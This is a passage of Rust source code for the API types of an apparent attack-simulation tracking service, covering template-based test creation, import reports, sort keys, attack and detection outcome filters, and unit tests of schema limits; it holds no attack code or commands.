            pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
        )
    )]
    pub tags: Option<Vec<String>>,
}

impl Example for FromTemplateInput {
    fn example() -> Self {
        // No `arguments`: their names are each template's own.
        Self {
            name: Some("LSASS dump on the finance jump host".into()),
            arguments: None,
            campaign_id: None,
            platform: None,
            target_host: Some("jump-fin-01.corp.example".into()),
            red_assignee_id: None,
            blue_assignee_id: None,
            tags: Some(vec!["credential-access".into()]),
        }
    }
}

#[derive(Debug, Object)]
#[oai(skip_serializing_if_is_none)]
pub struct ImportProblemView {
    pub file: String,
    /// The atomic test's name, when the problem is one test of the file.
    pub test: Option<String>,
    pub reason: String,
}

#[derive(Debug, Object)]
pub struct ImportReportView {
    pub files: u64,
    pub created: u64,
    pub updated: u64,
    pub unchanged: u64,
    /// Technique ids the catalog does not know; their templates were imported anyway.
    pub unknown_techniques: Vec<String>,
    pub problems: Vec<ImportProblemView>,
}

impl From<ImportReport> for ImportReportView {
    fn from(r: ImportReport) -> Self {
        Self {
            files: r.files,
            created: r.created,
            updated: r.updated,
            unchanged: r.unchanged,
            unknown_techniques: r.unknown_techniques,
            problems: r
                .problems
                .into_iter()
                .map(|p| ImportProblemView {
                    file: p.file,
                    test: p.test,
                    reason: p.reason,
                })
                .collect(),
        }
    }
}

/// The order of a test list: a column, with a leading `-` for descending.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
pub enum TestSortKey {
    #[oai(rename = "name")]
    Name,
    #[oai(rename = "-name")]
    NameDesc,
    #[oai(rename = "created_at")]
    CreatedAt,
    #[oai(rename = "-created_at")]
    CreatedAtDesc,
    #[oai(rename = "updated_at")]
    UpdatedAt,
    #[oai(rename = "-updated_at")]
    UpdatedAtDesc,
    #[oai(rename = "executed_at")]
    ExecutedAt,
    #[oai(rename = "-executed_at")]
    ExecutedAtDesc,
    #[oai(rename = "state")]
    State,
    #[oai(rename = "-state")]
    StateDesc,
    #[oai(rename = "technique_id")]
    TechniqueId,
    #[oai(rename = "-technique_id")]
    TechniqueIdDesc,
}

impl From<TestSortKey> for TestSort {
    fn from(key: TestSortKey) -> Self {
        use TestSortKey::*;
        let (column, descending) = match key {
            Name => ("name", false),
            NameDesc => ("name", true),
            CreatedAt => ("created_at", false),
            CreatedAtDesc => ("created_at", true),
            UpdatedAt => ("updated_at", false),
            UpdatedAtDesc => ("updated_at", true),
            ExecutedAt => ("executed_at", false),
            ExecutedAtDesc => ("executed_at", true),
            State => ("state", false),
            StateDesc => ("state", true),
            TechniqueId => ("technique_id", false),
            TechniqueIdDesc => ("technique_id", true),
        };
        TestSort { column, descending }
    }
}

/// An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
/// outcome (`prevented`, `alerted`, `logged`, `not_detected`): the two sets
/// do not overlap, so one filter takes both.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
#[oai(rename_all = "snake_case")]
pub enum OutcomeFilter {
    Succeeded,
    Failed,
    Blocked,
    Prevented,
    Alerted,
    Logged,
    NotDetected,
}

impl OutcomeFilter {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Succeeded => AttackOutcome::Succeeded.as_str(),
            Self::Failed => AttackOutcome::Failed.as_str(),
            Self::Blocked => AttackOutcome::Blocked.as_str(),
            Self::Prevented => DetectionOutcome::Prevented.as_str(),
            Self::Alerted => DetectionOutcome::Alerted.as_str(),
            Self::Logged => DetectionOutcome::Logged.as_str(),
            Self::NotDetected => DetectionOutcome::NotDetected.as_str(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use poem_openapi::registry::{MetaSchemaRef, Registry};
    use poem_openapi::types::{ParseFromParameter, Type};

    #[test]
    fn every_sort_key_is_a_column_the_repository_knows() {
        let mut registry = Registry::new();
        TestSortKey::register(&mut registry);
        let names = &registry.schemas["TestSortKey"].enum_items;
        assert_eq!(names.len(), 2 * TestSort::KEYS.len());
        for name in names {
            let name = name.as_str().unwrap();
            let sort = TestSort::from(TestSortKey::parse_from_parameter(name).unwrap());
            assert_eq!(TestSort::parse(name), Some(sort), "{name}");
        }
    }

    /// The limits the document shows are the ones the service enforces.
    #[test]
    fn documented_lengths_are_the_enforced_ones() {
        let mut registry = Registry::new();
        NewTestInput::register(&mut registry);
        let schema = &registry.schemas["NewTestInput"];
        let max = |field: &str| {
            let (_, MetaSchemaRef::Inline(s)) =
                schema.properties.iter().find(|(n, _)| *n == field).unwrap()
            else {
                panic!("{field} is inline")
            };
            s.max_length.or(s.max_items)
        };
        assert_eq!(max("name"), Some(crate::service::MAX_NAME));
        assert_eq!(max("procedure"), Some(crate::service::MAX_TEXT));
        assert_eq!(max("platform"), Some(crate::service::MAX_SHORT));
        assert_eq!(max("tags"), Some(crate::service::MAX_TAGS));
    }
}
